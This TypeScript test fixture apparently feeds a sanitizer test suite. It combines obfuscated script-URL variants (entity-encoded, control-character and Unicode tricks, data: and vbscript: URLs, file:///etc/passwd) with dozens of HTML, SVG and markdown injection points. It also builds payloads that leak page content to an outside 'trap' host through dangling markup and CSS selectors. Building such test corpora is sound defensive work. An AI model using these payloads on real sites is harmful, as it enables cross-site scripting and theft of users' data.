import { all, J, SCRIPT } from './attack-parts-fixture'

export function addresses(): string[] {
  const script = [
    ...[
      `javascript:${J}`,
      `JaVaScRiPt:${J}`,
      `java\tscript:${J}`,
      `java\nscript:${J}`,
      `java&#10;script:${J}`,
      `java&Tab;script:${J}`,
    ],
    ...[
      `java&NewLine;script:${J}`,
      `javascript&colon;${J}`,
      `javascript&#58${J}`,
      `javascript&#x0003A;${J}`,
      `&#106;avascript:${J}`,
    ],
    ...[
      `&#0000106&#0000097vascript:${J}`,
      ` javascript:${J}`,
      `&#1;javascript:${J}`,
      `\x00javascript:${J}`,
      `\u00a0javascript:${J}`,
    ],
    ...[
      `\u2028javascript:${J}`,
      `javascript://%0a${J}`,
      `javascript:/*--></title></style>*/${J}`,
      `javascript\x00:${J}`,
      `ｊavascript:${J}`,
    ],
    ...[
      `java\u200bscript:${J}`,
      `javascript:\`\${${J}}\``,
      `//javascript:${J}`,
      `/\\javascript:${J}`,
      `x:javascript:${J}`,
      `feed:javascript:${J}`,
    ],
    ...[
      `view-source:javascript:${J}`,
      `jar:javascript:${J}!/`,
      `vbscript:${J}`,
      `livescript:${J}`,
      `mocha:${J}`,
      `blob:javascript:${J}`,
    ],
    ...[
      `data:text/html,${SCRIPT.replaceAll('<', '%3C')}`,
      `data:text/html;base64,${btoa(SCRIPT)}`,
      `DATA:image/svg+xml,%3Csvg onload=${J}%3E`,
    ],
    ...[
      `data:,${J}`,
      `data:text/javascript,${J}`,
      `filesystem:http://x/`,
      `file:///etc/passwd`,
      `about:blank`,
      `chrome://crash`,
      `intent://x`,
    ],
  ]
  const places = [
    ...[
      '<a href="@">文</a>',
      '<a href=@>文</a>',
      '<img src="@">',
      '<img srcset="@ 1x, @ 2x">',
      '<img dynsrc="@" lowsrc="@">',
      '<q cite="@">文</q>',
    ],
    ...[
      '<blockquote cite="@">文</blockquote>',
      '<iframe src="@"></iframe>',
      '<embed src="@">',
      '<object data="@"></object>',
      '<base href="@">',
    ],
    ...[
      '<form action="@"><button>文</button></form>',
      '<button formaction="@">文</button>',
      '<input type=image src="@" formaction="@">',
    ],
    ...[
      '<area href="@">',
      '<link rel=stylesheet href="@">',
      '<body background="@">',
      '<table background="@"><td background="@">文</table>',
    ],
    ...[
      '<video poster="@" src="@"></video>',
      '<audio src="@"></audio>',
      '<track src="@">',
      '<frameset><frame src="@"></frameset>',
    ],
    ...[
      '<svg><a xlink:href="@"><text y=9>文</text></a></svg>',
      '<svg><use href="@"></use></svg>',
      '<svg><image xlink:href="@"/></svg>',
    ],
    ...[
      '<svg><a><animate attributeName=href values="@"/><text y=9>文</text></a></svg>',
      '<math href="@">文</math>',
      '<math><mi xlink:href="@">文</mi></math>',
    ],
    ...[
      '<meta http-equiv=refresh content="0;url=@">',
      '<a href="/x" ping="@">文</a>',
      '<p style="background:url(@)">文</p>',
      '<isindex action="@">',
    ],
    ...[
      '<applet code="@"></applet>',
      '<a id="fn-1" href="@">文</a>',
      '<figure data-picture="0"><img src="@"></figure>',
      '<a\nhref\n=\n"@"\n>文</a>',
    ],
    ...['[文](@)', '![文](@)', '<@>', '[文]: @\n\n[文]', '<a href="@" target=opener rel=opener download>文</a>'],
  ]
  return all(places, script, (place, address) => place.replaceAll('@', address))
}

/** What asks somebody else's server, or lets the rest of the page leak to it. */
export function outside(trap: string): string[] {
  const plain = [
    ...[
      '<img src="@">',
      "<img src='@?",
      '<a href="@?',
      "<a href='@' ping='@'>文</a>",
      '<img srcset="@ 1x">',
      '<video poster="@">',
      '<audio src="@" autoplay>',
    ],
    ...[
      '<video><source src="@"></video>',
      '<picture><source srcset="@"><img src="@"></picture>',
      '<iframe src="@"></iframe>',
      '<embed src="@">',
    ],
    ...[
      '<object data="@"></object>',
      '<input type=image src="@">',
      '<body background="@">',
      '<table background="@">',
      '<td background="@">',
      '<track src="@">',
    ],
    ...[
      '<link rel=stylesheet href="@">',
      '<link rel=prefetch href="@">',
      '<link rel=preload as=image href="@">',
      '<link rel=dns-prefetch href="@">',
    ],
    ...[
      '<link rel=icon href="@">',
      '<link rel=manifest href="@">',
      '<style>@import url("@");</style>',
      '<style>body{background:url(@)}</style>',
    ],
    ...[
      '<style>input[value^=a]{background:url(@)}</style>',
      '<p style="background:url(@)">',
      '<p style="list-style:url(@)">',
      '<p style="cursor:url(@),auto">',
    ],
    ...[
      '<svg><image href="@"/></svg>',
      '<svg><use href="@#x"/></svg>',
      '<svg><feImage href="@"/></svg>',
      '<svg><style>@import "@"</style></svg>',
    ],
    ...[
      '<script src="@"></script>',
      '<base href="@">',
      '<base target="',
      '<form action="@"><input name=a>',
      '<button formaction="@">',
      '<portal src="@">',
    ],
    ...[
      '<meta http-equiv=refresh content="0;url=@">',
      '<applet archive="@">',
      '<bgsound src="@">',
      '<layer src="@">',
      '<frame src="@">',
      '<math><mglyph src="@"/></math>',
    ],
    ...[
      '<img src="@" loading=eager crossorigin>',
      '<xml src="@">',
      '<iframe name="',
      '<textarea>',
      '<option>',
      "<noscript><img src='@'>",
      '<div data-src="@">',
    ],
  ]
  return [
    ...plain.map((one) => one.replaceAll('@', `${trap}/a.png`)),
    ...plain.map((one) => one.replaceAll('@', trap.replace('http:', ''))),
  ]
}
